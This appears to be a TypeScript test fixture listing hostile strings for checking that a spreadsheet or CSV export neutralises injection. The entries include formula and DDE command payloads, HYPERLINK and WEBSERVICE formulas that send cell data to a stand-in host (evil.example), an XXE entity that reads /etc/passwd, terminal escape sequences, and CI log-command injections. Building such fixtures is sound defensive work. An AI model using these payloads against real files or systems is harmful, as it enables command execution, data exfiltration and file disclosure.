import { HOSTILE_TEXTS } from '../arbitraries.ts';

/** What a spreadsheet could take for a formula, also behind what it passes over, or where it reads another separator. */
const FORMULAS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' =1+1',
  '   \t =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '"=1+1',
  "'=1+1",
  '"=1+1"',
  "''=1+1",
  '`=1+1',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"press here")',
  '=WEBSERVICE("https://evil.example/")',
  '=1+1","=2+2',
  '=1+1"\r\n"=2+2',
  ';=1+1',
  'x;=1+1;',
  'x; =1+1;y',
  ',=1+1',
  'x,=1+1,',
  'x\t=1+1\ty',
  'x\n=1+1\ny',
  "'",
  "''",
  ";'",
  '{=1+1}',
  '=',
  '-',
  '+49 30 123456',
  '-5',
  '1e400',
  '00042',
  '2026-03-01',
  'TRUE',
  '#REF!',
];

/** What XML, ZIP or a spreadsheet reads otherwise than it stands there. */
const MARKUP: readonly string[] = [
  '_x0041_',
  '_x003D_1+1',
  '__x0041__',
  '_x005F_x0041_',
  '_xD83D_',
  ']]>',
  '<c t="str"><f>1+1</f></c>',
  '</t></is></c></row></sheetData>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '&#0;&#x1;&amp;&lt;',
  '  spaces at both ends  ',
  'two  spaces',
];

/** What a terminal, a line reader or a runner would obey. */
const CONTROLS: readonly string[] = [
  '\u0000',
  'a\u0000b',
  '\u0001\u0002\u0008\u000b\u000c\u000e\u001f\u007f',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u009b31m',
  'one\u0085two\u2028three\u2029four',
  'one\rtwo\nthree\r\nfour',
  '\u202eltr\u202c \u2066isolated\u2069 \u200f\u200e\u061c',
  '\ufeffmarked',
  'end\ufffe\uffff',
  '\u{1fffe}\u{e0041}',
  '::error::title',
  '\n::set-output name=x::y',
  '##[error]told',
  '%0A::error::x',
  'ZWJ 👩\u200d💻 and e\u0301',
];

/** Ten thousand bytes and more of one name. */
const LONG: readonly string[] = ['n'.repeat(10_000), '漢'.repeat(4_000), '=1+1;'.repeat(2_000), '"'.repeat(10_000)];

/** Texts that have done harm to whoever opened a file that held them, and nothing to whoever takes them for texts. */
export const HOSTILE_EXPORTS: readonly string[] = [
  ...new Set([...FORMULAS, ...MARKUP, ...CONTROLS, ...LONG, ...HOSTILE_TEXTS]),
];
